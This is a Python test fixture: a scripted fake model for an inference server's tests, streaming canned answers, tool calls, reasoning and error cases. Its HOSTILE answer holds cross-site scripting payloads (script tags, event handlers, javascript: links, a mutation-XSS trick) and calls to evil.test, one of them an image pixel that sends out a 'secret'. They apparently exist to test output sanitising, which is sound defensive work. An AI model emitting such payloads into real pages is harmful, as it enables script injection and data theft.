"""What the fake models say: long Markdown, hostile Markdown, and answers that go wrong."""

import asyncio
from collections.abc import AsyncGenerator

from inference.core.errors import ContextLengthExceeded, InvalidValue, ModelLoadFailed, WorkerDied
from inference.core.events import (
    Accepted,
    Ended,
    Event,
    Finished,
    FinishReason,
    Progress,
    ReasoningDelta,
    TextDelta,
    Timings,
    Tokenized,
    ToolCallDelta,
    Usage,
)
from inference.core.load_progress import LoadProgress, OnLoadProgress
from inference.core.model_card import ModelCard
from inference.core.picture_placeholders import described
from inference.core.pool_state import Loaded
from inference.core.requests import ChatRequest, CompletionRequest, Request, TokenizeRequest
from tests.thinking_runner import EndlessReasoner

TOKEN_S = 0.004
SLOW_S = 0.012  # of answers that tests look at while they run
SLOW = ("primes", "portions")  # their topics
LONGEST_COUNTED = 10_000  # characters
PICTURE_TOKENS = 70
PORTION = 400  # characters of an answer that is cut by its length limit; the first ends inside a code block

MARKDOWN = """\
A sieve is the **calm way** to list primes: write every number down, then strike out the multiples of each \
prime you meet. Whatever is left has no divisor but one and itself.

```python
def primes_below(n: int) -> list[int]:
    \"\"\"Every prime smaller than `n`.\"\"\"
    is_prime = [False, False] + [True] * (n - 2)
    for candidate in range(2, int(n**0.5) + 1):
        if is_prime[candidate]:
            is_prime[candidate**2 :: candidate] = [False] * len(is_prime[candidate**2 :: candidate])
    return [number for number in range(n) if is_prime[number]]
```

Three things make it quick:

1. It stops at the square root of *n*; a larger factor has a smaller partner.
2. It begins at `candidate ** 2`, because smaller multiples are struck out already.
3. It assigns a whole slice at once instead of looping.

| n | primes below n | time |
|--:|--:|--:|
| 1,000 | 168 | 0.1 ms |
| 1,000,000 | 78,498 | 90 ms |
| 10,000,000 | 664,579 | 1.1 s |

> For much larger ranges a segmented sieve keeps the memory small.

More about it is on [Wikipedia](https://en.wikipedia.org/wiki/Sieve_of_Eratosthenes).
"""

MATH = r"""The sum is $\frac{a}{b} < 1$, that costs $5 or $6, and \(x^2\) is inline:

$$\int_0^1 \sqrt{x}\,dx = \frac{2}{3}$$

\[ E = mc^2 \]

Unreadable: $\frac{$ and `$no$`, and \(\href{javascript:document.title='owned'}{x}\).
"""

# Each line tries to run something, to leave this origin, or to look like a part of the page.
HOSTILE = """\
Begin of the hostile answer.

<script>document.title = "owned"; fetch("http://evil.test/script")</script>

<img src=x onerror="document.title='owned'"> and ![pixel](http://evil.test/pixel.png?d=secret)

[click](javascript:document.title='owned') [data](data:text/html,<script>1</script>) [own](/logout/)

<iframe src="http://evil.test/frame"></iframe> <svg onload="document.title='owned'"><use href="http://evil.test/#x"/></svg>

<div style="background:url(http://evil.test/style)" onclick="document.title='owned'">styled</div>

<form action="http://evil.test/form"><input autofocus onfocus="document.title='owned'"></form>

<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">

[ref]: javascript:document.title='owned'

[by reference][ref] <http://good.test/> <a href="http://evil.test" style="position:fixed" id="send">raw</a>

```html
<script>document.title = "owned"</script>
```

End of the hostile answer.
"""


def pieces(text: str) -> list[str]:
    """The text cut as tokens would cut it: words with the blank before them."""
    cut = [text[at : at + 4] for at in range(0, len(text), 4)]
    return cut or [""]


def wishes(request: ChatRequest) -> list[str]:
    """What the question asks beyond its messages, temperature and seed."""
    drawn = [f"top_k {request.sampling.top_k}"] if request.sampling.top_k else []
    stops = [f"stop {', '.join(request.stop)}"] if request.stop else []
    schema = [f"schema {request.schema}"] if request.schema else []
    thinking = [] if request.thinking is None else [f"thinking {request.thinking}"]
    grammar = [f"grammar {request.grammar.kind}"] if request.grammar else []
    return [*drawn, *stops, *schema, *grammar, *thinking]


def topic_of(request: ChatRequest) -> str:
    """The last word of the question; an answer that is continued has the question before it."""
    asked = request.messages[-2 if request.continues else -1].content
    return asked.split()[-1].strip("?.!").lower()


def rest_of(text: str, begun: str) -> str:
    """What follows `begun` in the script, or a few words where it was edited."""
    return text.removeprefix(begun) if text.startswith(begun) else " And so on."


async def called(request: ChatRequest) -> AsyncGenerator[Event]:
    """A call of each tool, its arguments in pieces."""
    for place, tool in enumerate(request.tools):
        yield ToolCallDelta(call=place, id=f"call_{place}", name=tool.name)
        for piece in pieces('{"city": "Rome"}'):
            yield ToolCallDelta(call=place, text=piece)
            await asyncio.sleep(TOKEN_S)
    yield Ended(reason="tool_calls")
    yield Finished(usage=Usage(prompt_tokens=1200, completion_tokens=9))


def tokenized(request: CompletionRequest | ChatRequest) -> Tokenized:
    """Of short texts, which a page counts while somebody types; a refusal would be among its complaints.

    Each picture is as PICTURE_TOKENS * 4 characters.
    """
    if isinstance(request, ChatRequest):
        pictures = sum(len(message.pictures) for message in request.messages)
        texts = ["x" * 4 * PICTURE_TOKENS * pictures]
    else:
        texts = [str(prompt) for prompt in request.prompts]
    if any(len(text) > LONGEST_COUNTED for text in texts):
        raise ContextLengthExceeded("This fake counts no long texts.")
    tokens = tuple(tuple(range(-(-len(text) // 4))) for text in texts)
    return Tokenized(tokens=tokens, texts=tuple(texts), context_length=8192)


class ScriptedRunner(EndlessReasoner):
    """A fake model whose answer depends on the last word of the question."""

    async def load(self, card: ModelCard, on_progress: OnLoadProgress) -> Loaded:
        if card.id.startswith("broken"):
            raise ModelLoadFailed("its weights are incomplete")
        if card.id.startswith("endless"):
            on_progress(LoadProgress(phase="verifying", percent=40))
            await asyncio.Event().wait()
        steps = 25 if card.id.startswith("slow") else 1
        for step in range(steps):
            on_progress(LoadProgress(phase="weights", percent=100 * step // steps))
            await asyncio.sleep(0.1 if steps > 1 else 0)
        self.sees = card.sees
        return await super().load(card, on_progress)

    async def submit(self, request: Request, owner: str = "") -> AsyncGenerator[Event]:
        if isinstance(request, TokenizeRequest):
            found = tokenized(request.of)
            yield Accepted(prompt_tokens=len(found.tokens[0]))
            yield found
            yield Finished(usage=Usage(prompt_tokens=len(found.tokens[0]), completion_tokens=0))
            return
        if not isinstance(request, ChatRequest):
            raise ContextLengthExceeded("This fake only chats.")
        topic = topic_of(request)
        if request.grammar and "unknown_rule" in request.grammar.text:
            raise InvalidValue(
                "The format cannot be enforced: there is no unknown_rule.", param="response_format"
            )
        yield Accepted(prompt_tokens=1200)
        for done in range(0, 1200, 300):
            yield Progress(phase="prefill", done=done, total=1200, cached=min(done, 300))
            await asyncio.sleep(1.0 if topic == "prefill" else 0.03)
        async for event in self._answer(topic, request):
            yield event

    async def _answer(self, topic: str, request: ChatRequest) -> AsyncGenerator[Event]:
        if topic == "refused":
            raise ContextLengthExceeded("The prompt has 9,000 tokens and the model reads 8,192; shorten it.")
        if topic == "echo":
            text = " | ".join(f"{one.role}: {described(one).content}" for one in request.messages)
            text += f" | temperature {request.sampling.temperature} seed {request.sampling.seed}"
            text += "".join(f" | {wish}" for wish in wishes(request))
        else:
            known = {"hostile": HOSTILE, "formulas": MATH, "portions": MARKDOWN[: 2 * PORTION + 50]}
            text = known.get(topic, MARKDOWN)
        if request.continues:
            text = rest_of(text, request.messages[-1].content)
        reason: FinishReason = "length" if topic == "cut" else "stop"
        if topic == "portions" and len(text) > PORTION:
            text, reason = text[:PORTION], "length"
        if request.tools and request.messages[-1].role == "user":
            async for event in called(request):
                yield event
            return
        if topic == "thoughts":
            for piece in pieces("The user wants primes. A sieve is simplest, so I explain that one."):
                yield ReasoningDelta(text=piece)
                await asyncio.sleep(TOKEN_S)
        if topic == "endlessly":
            with self.reasoning(request) as ended:
                while not ended.is_set():
                    yield ReasoningDelta(text="But what if? ")
                    await asyncio.sleep(0.05)
        parts, pause = pieces(text), SLOW_S if topic in SLOW else TOKEN_S
        for index, piece in enumerate(parts):
            if topic == "dies" and index == 12:
                raise WorkerDied("The model's process ended; ask again.")
            if topic == "forever" and index == 40:
                await asyncio.Event().wait()
            yield TextDelta(text=piece)
            await asyncio.sleep(pause)
        usage = Usage(prompt_tokens=1200, completion_tokens=len(parts))
        yield Ended(reason=reason)
        yield Finished(usage=usage, timings=Timings(prefill_s=0.2, decode_s=len(parts) * pause))
